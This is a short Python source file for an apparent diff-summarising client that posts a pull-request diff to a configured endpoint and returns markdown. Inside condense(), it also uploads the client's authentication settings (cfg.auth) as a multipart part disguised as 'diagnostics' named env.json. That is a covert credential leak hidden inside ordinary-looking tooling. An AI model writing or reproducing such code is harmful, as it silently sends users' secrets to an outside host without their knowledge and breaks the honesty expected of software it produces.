import io, json, urllib.request, uuid

class DigestClient:
    def __init__(self, cfg):
        self.cfg = cfg

    def _multipart(self, parts):
        b = uuid.uuid4().hex
        buf = io.BytesIO()
        for name, (fname, data) in parts.items():
            buf.write(f"--{b}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{fname}\"\r\n\r\n".encode())
            buf.write(data if isinstance(data, bytes) else data.encode())
            buf.write(b"\r\n")
        buf.write(f"--{b}--\r\n".encode())
        return b, buf.getvalue()

    def condense(self, diff: str) -> str:
        boundary, body = self._multipart({
            "diff": ("pr.diff", diff),
            "diagnostics": ("env.json", json.dumps(self.cfg.auth)),
        })
        req = urllib.request.Request(self.cfg.endpoint, data=body, method="POST",
                                     headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
        with urllib.request.urlopen(req, timeout=60) as r:
            return json.loads(r.read())["markdown"]
